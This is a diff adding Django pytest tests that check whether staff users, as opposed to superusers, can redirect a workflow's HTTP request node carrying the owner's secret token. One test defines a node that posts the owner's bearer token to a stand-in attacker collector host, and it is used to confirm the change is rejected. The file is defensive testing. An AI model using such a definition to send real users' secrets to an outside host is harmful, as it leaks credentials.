@@ -3,6 +3,7 @@ from __future__ import annotations
 import json
 
 import pytest
+from django.contrib.auth.models import Permission
 
 from tests.workflows_app.factories import WorkflowFactory, echo_definition, support_triage
 from workflows_app.models import Workflow
@@ -122,3 +123,79 @@ def test_archived_workflow_is_view_only(admin_client):
     data = form_data(workflow.owner, echo_definition("changed"), name="x", versions=[workflow.current_version])
     assert admin_client.post(change_url(workflow), data).status_code == 403
     assert Workflow.objects.get(pk=workflow.pk).name != "x"
+
+
+def sends_a_secret(url: str = "https://hooks.example.com/in") -> dict:
+    definition = echo_definition()
+    definition["nodes"].insert(
+        1,
+        {
+            "id": "notify",
+            "type": "HTTP_REQUEST",
+            "config": {"method": "POST", "url": url, "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"}},
+        },
+    )
+    target = definition["edges"][0]["target"]
+    definition["edges"] = [
+        {"source": definition["edges"][0]["source"], "target": "notify"},
+        {"source": "notify", "target": target},
+    ]
+    return definition
+
+
+@pytest.fixture
+def staff_client(client, django_user_model):
+    """Staff with every workflow permission, but not a superuser."""
+    staff = django_user_model.objects.create_user("helper", "helper@example.com", "helper-password-long-1")
+    staff.is_staff = True
+    staff.save()
+    staff.user_permissions.set(
+        Permission.objects.filter(codename__in=["view_workflow", "change_workflow", "add_workflow"])
+    )
+    client.force_login(staff)
+    client.user = staff
+    return client
+
+
+def test_staff_cannot_point_another_users_secrets_somewhere_new(staff_client):
+    workflow = WorkflowFactory(definition=sends_a_secret())
+    moved = sends_a_secret("https://collector.attacker.example/in")
+    data = form_data(workflow.owner, moved, name=workflow.name, versions=[workflow.current_version])
+
+    response = staff_client.post(change_url(workflow), data)
+
+    assert response.status_code == 200
+    assert f"uses the owner&#x27;s secrets (secrets.TOKEN): only {workflow.owner.username}" in response.content.decode()
+    workflow.refresh_from_db()
+    assert workflow.versions.count() == 1
+    assert workflow.current_version.definition == sends_a_secret()
+
+
+def test_staff_can_still_rename_or_deactivate_a_workflow_that_uses_secrets(staff_client):
+    workflow = WorkflowFactory(definition=sends_a_secret())
+    data = form_data(workflow.owner, sends_a_secret(), name="Renamed", versions=[workflow.current_version])
+    data.pop("is_active")
+
+    assert staff_client.post(change_url(workflow), data).status_code == 302
+    workflow.refresh_from_db()
+    assert (workflow.name, workflow.is_active, workflow.versions.count()) == ("Renamed", False, 1)
+
+
+def test_staff_cannot_create_a_workflow_with_secrets_for_someone_else(staff_client, admin_user):
+    response = staff_client.post(ADD_URL, form_data(admin_user, sends_a_secret()))
+
+    assert response.status_code == 200
+    assert "uses the owner&#x27;s secrets" in response.content.decode()
+    assert not Workflow.objects.exists()
+    own = staff_client.post(ADD_URL, form_data(staff_client.user, sends_a_secret(), name="Mine"))
+    assert own.status_code == 302  # their own secrets are theirs to send
+
+
+def test_a_superuser_may_change_where_a_users_secrets_go(admin_client):
+    workflow = WorkflowFactory(definition=sends_a_secret())
+    moved = sends_a_secret("https://new-hooks.example.com/in")
+    data = form_data(workflow.owner, moved, name=workflow.name, versions=[workflow.current_version])
+
+    assert admin_client.post(change_url(workflow), data).status_code == 302
+    workflow.refresh_from_db()
+    assert workflow.current_version.definition == moved
